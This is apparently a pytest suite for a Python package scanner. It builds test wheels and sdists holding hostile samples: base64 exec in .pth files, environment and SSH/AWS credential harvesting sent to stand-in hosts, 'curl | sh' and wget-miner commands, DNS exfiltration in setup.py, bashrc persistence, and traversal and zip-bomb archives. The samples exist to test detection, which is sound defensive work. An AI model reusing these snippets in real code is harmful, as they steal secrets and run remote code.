"""Capability analysis: every rule with a positive and a negative case, on wheels and sdists
built inside the test, plus hostile archives, installed environments and the CLI."""

from __future__ import annotations

import base64
import io
import json
import os
import subprocess
import sys
import tarfile
import zipfile
import zlib
from pathlib import Path

import pytest

from blastradius.capabilities.analyse import analyse_artifact
from blastradius.capabilities.archive import ArchiveReader, Limits, iter_sdist, iter_wheel
from blastradius.capabilities.environment import analyse_environment
from blastradius.errors import ArtifactError

DISTUTILS_LINE = (
    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
    "enabled and __import__('_distutils_hack').add_shim(); \n"
)
NSPKG_LINE = (
    "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], "
    "*('google',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');"
    "m = has_mfs and sys.modules.setdefault('google', importlib.util.module_from_spec(importlib.machinery.PathFinder."
    "find_spec('google', [os.path.dirname(p)])));m = m or sys.modules.setdefault('google', types.ModuleType('google'));"
    "mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n"
)
PAYLOAD = "import os, json\nprint('inert test payload')\n" * 40


def make_wheel(tmp: Path, name: str, files: dict[str, str | bytes], version: str = "1.0") -> Path:
    path = tmp / f"{name}-{version}-py3-none-any.whl"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for member, content in files.items():
            zf.writestr(member, content)
        zf.writestr(f"{name}-{version}.dist-info/METADATA", f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n\n")
    return path


def make_sdist(tmp: Path, name: str, files: dict[str, str | bytes], version: str = "1.0") -> Path:
    path = tmp / f"{name}-{version}.tar.gz"
    with tarfile.open(path, "w:gz") as tf:
        for member, content in files.items():
            data = content.encode() if isinstance(content, str) else content
            info = tarfile.TarInfo(f"{name}-{version}/{member}")
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return path


def rules(analysis) -> set[str]:
    return {e.rule_id for e in analysis.evidence}


def analyse(tmp: Path, name: str, files: dict[str, str | bytes]):
    return analyse_artifact(make_wheel(tmp, name, files), use_cache=False)


# ---------------------------------------------------------------------------- .pth and .start
def test_pth_exec_base64_is_critical(tmp_path):
    blob = base64.b64encode(PAYLOAD.encode()).decode()
    a = analyse(tmp_path, "evilpkg", {"evilpkg/__init__.py": "", "evilpkg_init.pth": f"import os, base64; exec(base64.b64decode('{blob}'))\n"})
    assert a.verdict == "critical"
    assert {"BR-PTH-EXEC", "BR-EXEC-DECODED"} <= rules(a)
    assert "pth-exec" in a.capabilities
    pth_ev = [e for e in a.evidence if e.rule_id == "BR-PTH-EXEC"][0]
    assert pth_ev.path == "evilpkg_init.pth" and pth_ev.line == 1
    assert blob[:40] not in json.dumps(a.to_dict())  # never the payload itself


def test_pth_benign_shapes(tmp_path):
    a = analyse(tmp_path, "setuptools", {"setuptools/__init__.py": "", "distutils-precedence.pth": DISTUTILS_LINE})
    assert "BR-PTH-KNOWN" in rules(a) and not {"BR-PTH-EXEC", "BR-PTH-SHAPE-OWNER"} & rules(a)
    assert a.verdict == "info"
    b = analyse(tmp_path, "googleapis-common-protos", {"googleapis_common_protos-1.0-py3.9-nspkg.pth": NSPKG_LINE})
    assert rules(b) == {"BR-PTH-KNOWN"}
    c = analyse(tmp_path, "pathonly", {"pathonly.pth": "# comment\n/opt/somewhere\nsrc\n"})
    assert c.verdict == "clean"


def test_pth_benign_prefix_with_appended_code_is_critical(tmp_path):
    line = DISTUTILS_LINE.rstrip("\n") + "exec(open('/tmp/x').read())\n"
    a = analyse(tmp_path, "setuptools", {"distutils-precedence.pth": line})
    assert "BR-PTH-EXEC" in rules(a) and a.verdict == "critical"


def test_pth_benign_shape_from_wrong_owner_is_high(tmp_path):
    a = analyse(tmp_path, "notsetuptools", {"distutils-precedence.pth": DISTUTILS_LINE})
    assert "BR-PTH-SHAPE-OWNER" in rules(a) and a.verdict == "high"


def test_pth_in_subdirectory_is_not_startup(tmp_path):
    a = analyse(tmp_path, "nested", {"nested/data/x.pth": "import os\n"})
    assert "BR-PTH-EXEC" not in rules(a)


def test_start_file(tmp_path):
    a = analyse(tmp_path, "starter", {"starter.start": "# hook\nstarter.hook:run\n"})
    assert "BR-START-ENTRY" in rules(a) and a.verdict == "high"
    b = analyse(tmp_path, "starter2", {"starter2.start": "# only a comment\n\n"})
    assert "BR-START-ENTRY" not in rules(b)


# ---------------------------------------------------------------------------- hidden code
def test_exec_decoded_one_liner_and_tainted_variable(tmp_path):
    blob = base64.b64encode(zlib.compress(PAYLOAD.encode())).decode()
    a = analyse(tmp_path, "jeilyfish", {"jeilyfish/_c.py": f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{blob}')))\n"})
    assert "BR-EXEC-DECODED" in rules(a) and a.verdict == "critical"
    b = analyse(tmp_path, "tainted", {"tainted/m.py": "import codecs\ndef f(s):\n    code = codecs.decode(s, 'rot13')\n    exec(code)\n"})
    assert "BR-EXEC-DECODED" in rules(b)


def test_exec_of_template_and_base64_of_data_are_not_flagged(tmp_path):
    src = ("import base64\n"
           "def make(name):\n    src = f'def {name}(self): return 1'\n    ns = {}\n    exec(compile(src, '<gen>', 'exec'), ns)\n    return ns\n"
           "def load(s):\n    return base64.b64decode(s)\n")
    a = analyse(tmp_path, "templ", {"templ/gen.py": src})
    assert not {"BR-EXEC-DECODED", "BR-EXEC-REMOTE"} & rules(a)


def test_long_encoded_literal(tmp_path):
    code = base64.b64encode(PAYLOAD.encode()).decode()
    a = analyse(tmp_path, "enc", {"enc/blob.py": f"DATA = '{code}'\n"})
    assert "BR-ENCODED-CODE" in rules(a) and a.verdict == "high"
    ev = [e for e in a.evidence if e.rule_id == "BR-ENCODED-CODE"][0]
    assert str(len(code)) in ev.message and code[:20] not in ev.message
    noise = base64.b64encode(os.urandom(1500)).decode()
    b = analyse(tmp_path, "img", {"img/icon.py": f"ICON = '{noise}'\n"})
    assert "BR-ENCODED-LITERAL" in rules(b) and "BR-ENCODED-CODE" not in rules(b) and b.verdict == "info"


def test_obfuscated_import_names(tmp_path):
    a = analyse(tmp_path, "obf", {"obf/m.py": "m = __import__('o' + 's')\ngetattr(m, 'sys' + 'tem')('id')\n"})
    assert "BR-OBFUSCATED-NAME" in rules(a)
    b = analyse(tmp_path, "visitor", {"visitor/m.py": "class V:\n    def visit(self, node):\n        return getattr(self, 'visit_' + node.kind)(node)\n"})
    assert "BR-OBFUSCATED-NAME" not in rules(b)


# ---------------------------------------------------------------------------- credentials
CTX_LIKE = """import base64
import requests
from os import environ

class Ctx:
    def __init__(self):
        self.send()

    def send(self):
        string = ""
        for _, value in environ.items():
            string += value + " "
        data = base64.b64encode(string.encode()).decode()
        requests.get("https://collector.example/x/" + data)
"""


def test_env_harvest_plus_network_same_file_is_critical(tmp_path):
    a = analyse(tmp_path, "ctx", {"ctx.py": CTX_LIKE})
    assert {"BR-ENV-HARVEST", "BR-COMBO-EXFIL"} <= rules(a)
    assert a.verdict == "critical"
    assert "env-harvest" in a.capabilities and "network" in a.capabilities


def test_harvest_across_modules_is_high(tmp_path):
    a = analyse(tmp_path, "split", {
        "split/collect.py": "import os, json\ndef dump():\n    return json.dumps(dict(os.environ))\n",
        "split/net.py": "import urllib.request\ndef send(d):\n    urllib.request.urlopen('https://x.example', d)\n",
    })
    assert "BR-COMBO-EXFIL" in rules(a) and a.verdict == "high"


def test_env_passthrough_and_named_reads_are_not_harvest(tmp_path):
    src = ("import os, subprocess\nimport requests\n"
           "def run(cmd):\n    env = os.environ.copy()\n    env['LC_ALL'] = 'C'\n    return subprocess.run(cmd, env=env)\n"
           "def proxies():\n    return {'https': os.environ.get('HTTPS_PROXY'), 'no': os.getenv(\"NO_PROXY\")}\n"
           "def key():\n    return os.environ['ANTHROPIC_API_KEY']\n"
           "def setkey():\n    os.environ['WRITTEN_ONLY'] = '1'\n"
           "def names():\n    return [k for k in os.environ if k.startswith('APP_')]\n")
    a = analyse(tmp_path, "sdkish", {"sdkish/client.py": src})
    assert "BR-ENV-HARVEST" not in rules(a) and "BR-COMBO-EXFIL" not in rules(a)
    assert a.env_names == ("ANTHROPIC_API_KEY", "HTTPS_PROXY", "NO_PROXY")
    assert a.verdict == "info"


def test_credential_sweep_with_network(tmp_path):
    src = ("import os, requests\nfrom pathlib import Path\n"
           "def grab():\n    home = Path.home()\n    out = {}\n"
           "    for p in ('.ssh/id_rsa', '.aws/credentials', '.kube/config'):\n"
           "        f = home / p\n        out[p] = f.read_text() if f.exists() else ''\n"
           "    requests.post('https://collector.example', json=out)\n")
    a = analyse(tmp_path, "grabber", {"grabber/__init__.py": "", "grabber/g.py": src})
    assert "BR-COMBO-EXFIL" in rules(a) and a.verdict == "critical"
    assert "credential-files" in a.capabilities


def test_credential_names_without_file_access_or_single_provider_are_not_combined(tmp_path):
    table = "LEXERS = {'SSHConfig': ('ssh config', ('*/.ssh/config',))}\nimport requests\n"
    a = analyse(tmp_path, "lexers", {"lexers/_mapping.py": table})
    assert "BR-COMBO-EXFIL" not in rules(a)
    sdk = ("import os, urllib.request\n"
           "def creds():\n    return open(os.path.expanduser('~/.aws/credentials')).read()\n"
           "def imds():\n    return urllib.request.urlopen('http://169.254.169.254/latest/meta-data/').read()\n")
    b = analyse(tmp_path, "cloudsdk", {"cloudsdk/c.py": sdk})
    assert "BR-CRED-FILE" in rules(b) and "BR-COMBO-EXFIL" not in rules(b)
    assert b.verdict == "info"


def test_ai_tool_config(tmp_path):
    a = analyse(tmp_path, "aicfg", {"aicfg/m.py": "import os\np = os.path.expanduser('~/.claude/settings.json')\nd = open(p).read()\n"})
    assert "BR-AI-TOOL-CONFIG" in rules(a)
    b = analyse(tmp_path, "dbcur", {"dbcur/m.py": "def q(conn):\n    c = conn.cursor()\n    return c.execute('select 1')\n"})
    assert "BR-AI-TOOL-CONFIG" not in rules(b)


# ---------------------------------------------------------------------------- sinks and actions
def test_persistence(tmp_path):
    src = "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('echo hi\\n')\n"
    a = analyse(tmp_path, "persist", {"persist/p.py": src})
    assert "BR-PERSISTENCE" in rules(a) and "persistence" in a.capabilities
    b = analyse(tmp_path, "docs", {"docs/p.py": "HELP = 'add this to your ~/.bashrc'\n"})
    assert "BR-PERSISTENCE" not in rules(b)
    c = analyse(tmp_path, "pthwriter", {"pthwriter/p.py": "import site\nd = site.getsitepackages()[0]\nopen(d + '/x.pth', 'w').write('import x')\n"})
    assert "BR-PERSISTENCE" in rules(c)


def test_import_time_download_exec(tmp_path):
    init = "import os\nos.system('wget -q https://x.example/xmrig -O /tmp/xmrig && nohup ./xmrig &')\n"
    a = analyse(tmp_path, "ultra", {"ultra/__init__.py": init})
    assert {"BR-IMPORT-TIME", "BR-DOWNLOAD-EXEC"} <= rules(a)
    assert a.verdict == "high"


def test_import_time_via_local_function(tmp_path):
    init = ("import urllib.request\n\ndef _check_compat():\n    _send()\n\n"
            "def _send():\n    urllib.request.urlopen('https://metrics.example/v1/collect')\n\n_check_compat()\n")
    a = analyse(tmp_path, "mrm", {"mrm/__init__.py": init})
    assert "BR-IMPORT-TIME" in rules(a)


def test_no_import_time_when_guarded_or_uncalled(tmp_path):
    src = ("import subprocess, requests\nimport logging\nlog = logging.getLogger(__name__)\n"
           "def fetch():\n    return requests.get('https://api.example')\n"
           "if __name__ == '__main__':\n    subprocess.run(['ls'])\n")
    a = analyse(tmp_path, "calm", {"calm/__init__.py": src})
    assert "BR-IMPORT-TIME" not in rules(a)
    assert {"network", "subprocess"} <= set(a.capabilities) and a.verdict == "info"


# ---------------------------------------------------------------------------- install time
def test_sdist_setup_py_rules(tmp_path):
    plain = make_sdist(tmp_path, "plain", {"setup.py": "from setuptools import setup\nsetup(name='plain')\n", "PKG-INFO": "Name: plain\nVersion: 1.0\n"})
    a = analyse_artifact(plain, use_cache=False)
    assert "BR-INSTALL-SETUP-PY" in rules(a) and a.verdict == "info" and "install-time-code" in a.capabilities
    cmd = ("from setuptools import setup\nfrom setuptools.command.install import install\n"
           "class Post(install):\n    def run(self):\n        install.run(self)\n"
           "setup(name='cmd', cmdclass={'install': Post})\n")
    b = analyse_artifact(make_sdist(tmp_path, "cmd", {"setup.py": cmd}), use_cache=False)
    assert "BR-INSTALL-CMDCLASS" in rules(b) and b.verdict == "medium"
    net = ("import socket, binascii, getpass\nfrom setuptools import setup\n"
           "socket.gethostbyname(binascii.hexlify(getpass.getuser().encode()).decode() + '.x.example')\nsetup(name='dns')\n")
    c = analyse_artifact(make_sdist(tmp_path, "dns", {"setup.py": net}), use_cache=False)
    assert "BR-INSTALL-SINK" in rules(c) and c.verdict == "high"


def test_sdist_in_tree_backend(tmp_path):
    pyproject = '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "backend"\nbackend-path = ["_custom"]\n'
    a = analyse_artifact(make_sdist(tmp_path, "custom", {"pyproject.toml": pyproject}), use_cache=False)
    assert "BR-INSTALL-BACKEND" in rules(a) and a.verdict == "medium"
    normal = '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n'
    b = analyse_artifact(make_sdist(tmp_path, "normal", {"pyproject.toml": normal}), use_cache=False)
    assert "BR-INSTALL-BACKEND" not in rules(b)


def test_hash_mismatch(tmp_path):
    wheel = make_wheel(tmp_path, "plainpkg", {"plainpkg/__init__.py": "X = 1\n"})
    good = analyse_artifact(wheel, expected_hashes=[], use_cache=False)
    ok = analyse_artifact(wheel, expected_hashes=[f"sha256:{good.sha256}"], use_cache=False)
    assert ok.verdict == "clean"
    bad = analyse_artifact(wheel, expected_hashes=["sha256:" + "0" * 64], use_cache=False)
    assert "BR-HASH-MISMATCH" in rules(bad) and bad.verdict == "critical"


# ---------------------------------------------------------------------------- hostile archives
def test_traversal_and_symlink_members_are_not_read(tmp_path):
    path = tmp_path / "hostile-1.0-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("../../evil.pth", "import os\n")
        zf.writestr("/abs.py", "x=1\n")
        link = zipfile.ZipInfo("hostile/link.py")
        link.external_attr = (0o120777 << 16)
        zf.writestr(link, "/etc/passwd")
        zf.writestr("hostile/ok.py", "x = 1\n")
    members = dict(iter_wheel(path))
    assert list(members) == ["hostile/ok.py"]
    a = analyse_artifact(path, use_cache=False)
    assert "BR-ARCHIVE-MEMBER" in rules(a) and "BR-PTH-EXEC" not in rules(a)
    assert not (tmp_path.parent / "evil.pth").exists()


def test_tar_traversal_symlink_device(tmp_path):
    path = tmp_path / "hostile-1.0.tar.gz"
    with tarfile.open(path, "w:gz") as tf:
        for name, kind in (("hostile-1.0/../../escape.py", tarfile.REGTYPE), ("hostile-1.0/link.py", tarfile.SYMTYPE),
                           ("hostile-1.0/dev", tarfile.CHRTYPE), ("hostile-1.0/ok.py", tarfile.REGTYPE)):
            info = tarfile.TarInfo(name)
            info.type = kind
            data = b"x = 1\n" if kind == tarfile.REGTYPE else b""
            info.size = len(data)
            if kind == tarfile.SYMTYPE:
                info.linkname = "/etc/passwd"
            tf.addfile(info, io.BytesIO(data) if data else None)
    reader = ArchiveReader(path)
    members = dict(iter_sdist(path, reader=reader))
    assert list(members) == ["hostile-1.0/ok.py"]
    assert len(reader.skipped) == 3


def test_zip_bomb_refused(tmp_path):
    path = tmp_path / "bomb-1.0-py3-none-any.whl"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("bomb/zeros.py", b"\0" * (20 * 1024 * 1024))
    with pytest.raises(ArtifactError, match="ratio"):
        analyse_artifact(path, use_cache=False)


def test_tar_bomb_refused(tmp_path):
    path = tmp_path / "bomb-1.0.tar.gz"
    with tarfile.open(path, "w:gz") as tf:
        data = b"\0" * (20 * 1024 * 1024)
        info = tarfile.TarInfo("bomb-1.0/zeros.py")
        info.size = len(data)
        tf.addfile(info, io.BytesIO(data))
    with pytest.raises(ArtifactError):
        list(iter_sdist(path))


def test_too_many_members(tmp_path):
    path = make_wheel(tmp_path, "many", {f"many/m{i}.py": "" for i in range(50)})
    with pytest.raises(ArtifactError, match="too many members"):
        list(iter_wheel(path, limits=Limits(max_members=10)))


def test_non_utf8_and_garbage(tmp_path):
    a = analyse(tmp_path, "latin", {"latin/m.py": b"# -*- coding: latin-1 -*-\nS = '\xe9t\xe9'\nimport os\nK = os.getenv('LATIN_KEY')\n",
                                   "latin/bad.py": b"\xff\xfe\x00garbage exec(\n", "latin.pth": b"\xff\xfe/odd/path\n"})
    assert a.env_names == ("LATIN_KEY",)
    not_zip = tmp_path / "broken-1.0-py3-none-any.whl"
    not_zip.write_bytes(b"not a zip")
    with pytest.raises(ArtifactError):
        analyse_artifact(not_zip, use_cache=False)


# ---------------------------------------------------------------------------- installed environments
def _install(site: Path, name: str, files: dict[str, str]) -> None:
    info = site / f"{name}-1.0.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n\n")
    record = []
    for rel, content in files.items():
        target = site / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(content)
        record.append(f"{rel},,")
    record.append(f"{name}-1.0.dist-info/METADATA,,")
    (info / "RECORD").write_text("\n".join(record) + "\n")


def test_environment_record_attribution_and_unowned_pth(tmp_path):
    site = tmp_path / "venv" / "lib" / "python3.11" / "site-packages"
    site.mkdir(parents=True)
    blob = base64.b64encode(PAYLOAD.encode()).decode()
    _install(site, "litellm", {"litellm/__init__.py": "import os\nK = os.environ.get('OPENAI_API_KEY')\n",
                               "litellm_init.pth": f"import base64; exec(base64.b64decode('{blob}'))\n"})
    _install(site, "setuptools", {"setuptools/__init__.py": "", "distutils-precedence.pth": DISTUTILS_LINE})
    _install(site, "quiet", {"quiet/__init__.py": "X = 1\n"})
    (site / "dropped.pth").write_text("import sys; exec('print(1)')\n")
    (site / "_virtualenv.pth").write_text("import _virtualenv\n")
    cache = tmp_path / "cache"
    result = analyse_environment(tmp_path / "venv", jobs=1, cache_dir=cache)
    assert set(result) == {"litellm", "setuptools", "quiet", "<unowned>"}
    assert result["litellm"].verdict == "critical"
    assert any(e.path == "litellm_init.pth" and e.rule_id == "BR-PTH-EXEC" for e in result["litellm"].evidence)
    assert result["litellm"].env_names == ("OPENAI_API_KEY",)
    assert result["setuptools"].verdict == "info"
    assert result["quiet"].verdict == "clean"
    unowned = result["<unowned>"]
    assert {e.path for e in unowned.evidence if e.rule_id == "BR-PTH-UNOWNED"} == {"dropped.pth"}
    again = analyse_environment(site, jobs=1, cache_dir=cache)
    assert {k: v.to_dict() for k, v in again.items()} == {k: v.to_dict() for k, v in result.items()}
    # editing a file after install invalidates that distribution's cached result
    (site / "quiet" / "__init__.py").write_text("import os\nos.system('curl -s https://x.example | sh')\n")
    third = analyse_environment(site, jobs=2, cache_dir=cache)
    assert third["quiet"].verdict == "high"


# ---------------------------------------------------------------------------- CLI
def _cli(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "blastradius", "inspect", *args], capture_output=True, text=True,
                          env={**os.environ, "BLASTRADIUS_CACHE_DIR": os.environ.get("BR_TEST_CACHE", "")} if False else None)


def test_cli_inspect_exit_codes(tmp_path, monkeypatch):
    env = {**os.environ, "BLASTRADIUS_CACHE_DIR": str(tmp_path / "c")}
    clean = make_wheel(tmp_path, "cleanpkg", {"cleanpkg/__init__.py": "X = 1\n"})
    proc = subprocess.run([sys.executable, "-m", "blastradius", "inspect", str(clean)], capture_output=True, text=True, env=env)
    assert proc.returncode == 0, proc.stderr
    assert "verdict: CLEAN" in proc.stdout
    bad = make_wheel(tmp_path, "badpkg", {"badpkg.pth": "import os; os.system('id')\n"})
    out = tmp_path / "r.json"
    proc = subprocess.run([sys.executable, "-m", "blastradius", "inspect", str(bad), "--format", "json", "-o", str(out)],
                          capture_output=True, text=True, env=env)
    assert proc.returncode == 1, proc.stderr
    data = json.loads(out.read_text())
    assert data["verdict"] == "critical" and data["name"] == "badpkg"
    proc = subprocess.run([sys.executable, "-m", "blastradius", "inspect", str(tmp_path / "missing.whl")],
                          capture_output=True, text=True, env=env)
    assert proc.returncode == 2 and proc.stderr.startswith("blastradius: error:") and "Traceback" not in proc.stderr
    text = tmp_path / "x.txt"
    text.write_text("hi")
    proc = subprocess.run([sys.executable, "-m", "blastradius", "inspect", str(text)], capture_output=True, text=True, env=env)
    assert proc.returncode == 2


def test_pypirc_is_own_config_for_packaging_tools_only(tmp_path):
    """A packaging tool reading ~/.pypirc next to its upload code is its own job (info); the same
    file in any other package is a credential source next to a sink (critical)."""
    src = ("import os, urllib.request\n"
           "def upload(dist):\n"
           "    cfg = open(os.path.expanduser('~/.pypirc')).read()\n"
           "    return urllib.request.urlopen('https://upload.index.example/legacy/', data=dist)\n")
    tool = analyse_artifact(make_wheel(tmp_path, "twine", {"twine/upload.py": src}), use_cache=False)
    assert "BR-COMBO-EXFIL" not in rules(tool) and "BR-CRED-FILE" in rules(tool)
    assert tool.verdict == "info"
    other = analyse_artifact(make_wheel(tmp_path, "helpful-utils", {"helpful_utils/upload.py": src}), use_cache=False)
    assert "BR-COMBO-EXFIL" in rules(other) and other.verdict == "critical"
    both = src.replace("'~/.pypirc'", "'~/.pypirc') + open(os.path.expanduser('~/.ssh/id_rsa')")
    swept = analyse_artifact(make_wheel(tmp_path, "setuptools", {"setuptools/upload.py": both}), use_cache=False)
    assert swept.verdict == "critical"  # ssh keys are nobody's own upload config


def test_environment_copied_by_comprehension_counts_where_it_goes(tmp_path):
    returned = "import os\ndef vc_env():\n    return {k.lower(): v for k, v in os.environ.items()}\n"
    a = analyse(tmp_path, "compiler-helper", {"compiler_helper/env.py": returned, "compiler_helper/net.py": "import socket\n"})
    assert "BR-ENV-HARVEST" not in rules(a) and a.verdict == "info"
    sent = ("import os, json, urllib.request\n"
            "env = {k: v for k, v in os.environ.items()}\n"
            "urllib.request.urlopen('https://collect.example/', data=json.dumps(env).encode())\n")
    b = analyse(tmp_path, "stealer", {"stealer/__init__.py": sent})
    assert "BR-ENV-HARVEST" in rules(b) and b.verdict == "critical"
    joined = "import os, requests\nrequests.post('https://collect.example/', data='\\n'.join(f'{k}={v}' for k, v in os.environ.items()))\n"
    c = analyse(tmp_path, "stealer2", {"stealer2/__init__.py": joined})
    assert "BR-ENV-HARVEST" in rules(c) and c.verdict == "critical"
